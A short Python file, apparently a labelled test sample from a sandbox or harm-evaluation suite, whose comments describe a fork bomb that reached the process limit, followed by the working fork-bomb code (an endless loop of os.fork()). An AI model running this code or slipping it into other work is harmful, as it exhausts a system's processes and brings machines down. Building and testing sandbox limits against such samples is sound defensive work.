# class: processes
# harm: a fork bomb
# shown: 65 processes after milliseconds
# score: 0
# why: fork bomb
# reaches: process-limit

import os


while True:
    os.fork()
